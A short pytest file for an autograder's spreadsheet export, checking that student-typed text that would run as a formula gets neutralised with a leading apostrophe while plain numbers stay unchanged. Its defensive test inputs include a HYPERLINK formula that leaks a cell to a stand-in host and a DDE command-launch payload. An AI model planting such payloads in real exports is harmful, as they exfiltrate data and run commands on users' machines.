"""What a student typed is text in a spreadsheet; numbers are numbers."""

import pytest

from autograder.exports.formulas import defused


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example?"&A1,"mark")',
        "+81-3-1234-5678",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1+1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "＝1+1",
        "－A1",
        "-",
        "-1e",
        "+1 2",
    ],
)
def test_a_formula_becomes_text(text):
    assert defused(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "0", "-1", "-0.25", "+3", "-1,5", "1e-3", "-1E+5", "-12%", "a=b", "O'Neil", "佐藤"]
)
def test_what_is_none_stays(text):
    assert defused(text) == text
